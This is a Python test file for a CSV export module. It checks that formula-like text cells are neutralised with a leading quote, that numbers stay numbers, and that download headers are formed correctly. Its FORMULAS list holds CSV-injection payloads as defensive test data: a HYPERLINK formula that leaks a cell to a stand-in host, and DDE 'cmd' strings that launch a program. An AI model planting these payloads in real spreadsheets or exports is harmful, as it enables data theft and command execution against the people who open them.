"""One CSV writer for every export: a text cell a spreadsheet would run as a formula is written
as text (OWASP's rule: a leading single quote); numbers the code writes stay numbers."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from servicekit.csv_export import cell, csv_response, csv_text
from servicekit.downloads import content_disposition

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_like_text_cell_is_written_as_text(name):
    [header, row] = read(csv_text(["mine_name", "area"], [[name, Decimal("1.5")]]))
    assert header == ["mine_name", "area"]
    assert row == ["'" + name, "1.5"]


def test_numbers_stay_numbers_and_ordinary_text_is_untouched():
    rows = [[-2, Decimal("-0.50"), -1.25, Decimal("1E+2"), None, date(2026, 1, 5), "二连浩特 A-1"]]
    [_, row] = read(csv_text(["a", "b", "c", "d", "e", "f", "g"], rows))
    assert row == ["-2", "-0.50", "-1.25", "100", "", "2026-01-05", "二连浩特 A-1"]
    assert cell("a=b") == "a=b"  # only the first character matters
    assert cell(True) is True


def test_the_lines_end_in_crlf_and_a_cell_with_a_line_break_is_quoted():
    text = csv_text(["x"], [["一\n二"]])
    assert text == '\ufeffx\r\n"一\n二"\r\n'


def test_the_answer_is_a_named_utf8_csv_download():
    response = csv_response(["x"], [["=1"]], filename="名录.csv")
    assert response.media_type == "text/csv; charset=utf-8"
    assert response.body.decode() == "\ufeffx\r\n'=1\r\n"
    assert response.headers["content-disposition"] == (
        "attachment; filename=\"download.csv\"; filename*=UTF-8''%E5%90%8D%E5%BD%95.csv"
    )


@pytest.mark.parametrize(
    ("name", "header"),
    [
        ("green-mines.csv", 'attachment; filename="green-mines.csv"'),
        ('a"b\\c.txt', "attachment; filename=\"a_b_c.txt\"; filename*=UTF-8''a%22b_c.txt"),
        ("规划数据库-2021.gpkg", "attachment; filename=\"-2021.gpkg\"; filename*=UTF-8''"
         "%E8%A7%84%E5%88%92%E6%95%B0%E6%8D%AE%E5%BA%93-2021.gpkg"),
    ],
)  # fmt: skip
def test_content_disposition_names_the_file_per_rfc_6266(name, header):
    assert content_disposition(name) == header
